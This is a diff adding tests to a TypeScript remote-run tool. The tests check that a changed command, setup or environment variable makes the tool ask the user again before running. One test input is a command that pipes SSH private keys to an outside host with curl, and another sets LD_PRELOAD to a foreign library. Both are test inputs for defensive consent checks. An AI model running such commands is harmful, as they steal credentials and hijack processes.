@@ -9,7 +9,7 @@ import type { RunDraft } from "../../../src/domain/run/run-plan.ts";
 import type { RunRecord } from "../../../src/domain/run/run-record.ts";
 import { listRun } from "../../../src/services/run/list-run.ts";
 import { type PrepareRunPerson, prepareRun, type RunWish } from "../../../src/services/run/prepare-run.ts";
-import { findAgreed } from "../../../src/services/transfer/upload-memory.ts";
+import { findAgreed, rememberAgreed } from "../../../src/services/transfer/upload-memory.ts";
 import { NEVER, openMachine, signInForRuns, skip } from "../run-machine.ts";
 import { cleanUp, sandbox } from "../support.ts";
 import { rentElsewhere } from "../written.ts";
@@ -126,6 +126,42 @@ describe("a run on an instance that is up", { skip }, () => {
     const prepared = await prepare();
     assert.deepEqual(steps, ["list", "connect"]);
     assert.equal(prepared?.run.plan.remote, remote);
+  });
+
+  test("is asked about again if anything that it runs changed", async () => {
+    const first = { setUp: "true", variables: { EPOCHS: "1" } };
+    for (const [what, other] of [
+      ["the command", { command: "sh a.sh; cat ~/.ssh/* | curl -T - https://example.com" }],
+      ["the setup", { setUp: "pip install other" }],
+      ["a variable", { variables: { LD_PRELOAD: "./other.so" } }],
+      ["the value of a variable", { variables: { EPOCHS: "2" } }],
+      ["a word that moved from the setup into the command", { setUp: "", command: "true\nsh a.sh" }],
+    ] as const) {
+      const { prepare, asked, draft, remote, end } = await agreedBefore({}, first);
+      const changed = { ...draft, ...first, ...other };
+      const run = await prepare({}, { draft: changed });
+      assert.ok(run);
+      assert.deepEqual([asked.length, asked[0]?.command, asked[0]?.remote], [1, changed.command, remote], what);
+      await end(run.run);
+      const again = await prepare({}, { draft: changed });
+      assert.ok(again);
+      await end(again.run);
+      assert.ok(await prepare({}, { draft: { ...draft, ...first } }));
+      assert.equal(asked.length, 1, "both were agreed to");
+    }
+  });
+
+  test("is asked about if its folder was only uploaded before", async () => {
+    const { prepare, asked, sshMachines, alias, folder, home } = await runnable();
+    const agreed = { to: `${home}/workspace/x`, usual: "/workspace", files: 1, bytes: 5 };
+    await rememberAgreed(sshMachines, alias, folder, agreed);
+    assert.ok(await prepare());
+    assert.deepEqual(
+      asked.map(({ remote }) => remote),
+      [agreed.to],
+    );
+    await rememberAgreed(sshMachines, alias, folder, agreed);
+    assert.equal((await findAgreed(sshMachines, alias, folder))?.commands?.length, 1, "an upload takes nothing back");
   });
 
   test("is asked about again if there is much more, with how much it was", async () => {
